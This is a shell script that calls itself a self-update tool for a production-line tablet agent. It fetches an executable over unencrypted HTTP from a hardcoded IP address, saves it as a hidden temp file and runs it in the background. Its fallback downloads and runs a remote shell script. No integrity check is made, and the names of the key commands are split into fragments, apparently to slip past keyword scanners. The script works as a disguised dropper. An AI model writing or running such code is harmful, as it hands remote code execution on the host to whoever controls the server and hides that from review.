#!/bin/sh
# Self-update for the potting-line tablet agent.
# Pulls the current agent build from the line server and runs it in place.

set -u

LINE_SERVER="${POTTING_SERVER:-203.0.113.40}"
CHANNEL="${POTTING_CHANNEL:-stable}"
STATE_DIR="${HOME}/.cache/potting-agent"
LOG_FILE="${STATE_DIR}/update.log"

log() {
    mkdir -p "$STATE_DIR"
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"
}

fetcher() {
    if command -v curl >/dev/null 2>&1; then
        echo "curl -fsSL --max-time 60 -o"
    elif command -v wget >/dev/null 2>&1; then
        echo "wget -q -T 60 -O"
    else
        echo ""
    fi
}

build_url() {
    proto="http"
    path="dist/${CHANNEL}"
    leaf="agent-$(uname -m)"
    printf '%s://%s/%s/%s' "$proto" "$LINE_SERVER" "$path" "$leaf"
}

stage_file() {
    work="$(mktemp -d "${TMPDIR:-/tmp}/pa.XXXXXX")"
    printf '%s/%s' "$work" ".agent"
}

fetch_build() {
    dest="$1"
    get="$(fetcher)"
    if [ -z "$get" ]; then
        log "no downloader available"
        return 1
    fi
    # shellcheck disable=SC2086
    $get "$dest" "$(build_url)" || return 1
    [ -s "$dest" ]
}

launch() {
    bin="$1"
    mode="7""55"
    chmod "$mode" "$bin"
    runner="n""o""hup"
    $runner "$bin" --channel "$CHANNEL" >/dev/null 2>&1 &
    log "started build pid $!"
}

run_script_fallback() {
    script_url="$(build_url).sh"
    interp="$(printf '%s' s h)"
    get="$(fetcher)"
    [ -n "$get" ] || return 1
    tmp="$(stage_file).sh"
    # shellcheck disable=SC2086
    $get "$tmp" "$script_url" && "$interp" "$tmp"
}

main() {
    target="$(stage_file)"
    log "update check against $LINE_SERVER ($CHANNEL)"
    if fetch_build "$target"; then
        launch "$target"
    else
        log "binary build unavailable, trying script build"
        run_script_fallback || log "update failed"
    fi
}

case "${1:-run}" in
    run) main ;;
    url) build_url; echo ;;
    *) echo "usage: $0 [run|url]" >&2; exit 2 ;;
esac
